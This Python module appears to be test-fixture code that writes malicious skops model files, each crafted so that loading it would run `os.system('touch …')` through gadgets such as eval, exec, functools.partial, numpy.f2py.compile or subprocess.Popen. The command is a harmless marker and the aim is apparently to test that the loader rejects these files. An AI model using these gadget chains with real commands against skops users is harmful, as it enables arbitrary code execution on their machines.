"""Files of skops as an attacker would write them: each would run `touch` if its nodes were built."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from zipfile import ZipFile


def node(loader: str, name: str, **more: Any) -> dict[str, Any]:
    module, _, kind = name.rpartition(".")
    return {"__loader__": loader, "__module__": module, "__class__": kind, **more}


def listed(*parts: Any, kind: str = "tuple") -> dict[str, Any]:
    return node(f"{kind.title()}Node", f"builtins.{kind}", content=list(parts))


def text(value: str) -> dict[str, Any]:
    return node("JsonNode", "builtins.str", content=json.dumps(value), is_json=True)


def empty() -> dict[str, Any]:
    return node("DictNode", "builtins.dict", content={}, key_types=listed(kind="list"))


def function(name: str) -> dict[str, Any]:
    module, _, attribute = name.rpartition(".")
    return node("FunctionNode", name, content={"module_path": module, "function": attribute})


def payloads(mark: Path) -> dict[str, dict[str, Any]]:
    """What a file may hold: the name of what it would call -> its nodes."""
    call = f"__import__('os').system('touch {mark}')"
    partial = {"args": listed(text(call)), "kwds": empty(), "namespace": empty()}
    state = node(
        "DictNode", "builtins.dict", content={"f": text(call)}, key_types=listed(text("f"), kind="list")
    )
    return {
        "builtins.eval": function("builtins.eval"),
        "functools.partial": node(
            "PartialNode", "functools.partial", content={"func": function("os.system"), **partial}
        ),
        "operator.methodcaller": node(
            "OperatorFuncNode", "operator.methodcaller", attrs=listed(text("system"))
        ),
        "os.system": node("ConstructorFromReduceNode", "os.system", content=listed(text(f"touch {mark}"))),
        "builtins.exec": node("ConstructorFromReduceNode", "builtins.exec", content=listed(text(call))),
        "numpy.f2py.compile": node(
            "ConstructorFromReduceNode", "numpy.f2py.compile", content=listed(text(call))
        ),
        "numpy.testing._private.utils.runstring": node(
            "ConstructorFromReduceNode",
            "numpy.testing._private.utils.runstring",
            content=listed(text(call), empty()),
        ),
        "subprocess.Popen": node("TypeNode", "subprocess.Popen"),
        "sklearn.utils._testing.TempMemmap": node(
            "ObjectNode", "sklearn.utils._testing.TempMemmap", content=state
        ),
    }


def write(path: Path, nodes: dict[str, Any], protocol: int) -> Path:
    with ZipFile(path, "w") as file:
        file.writestr("schema.json", json.dumps({**nodes, "protocol": protocol, "_skops_version": "0.16"}))
    return path
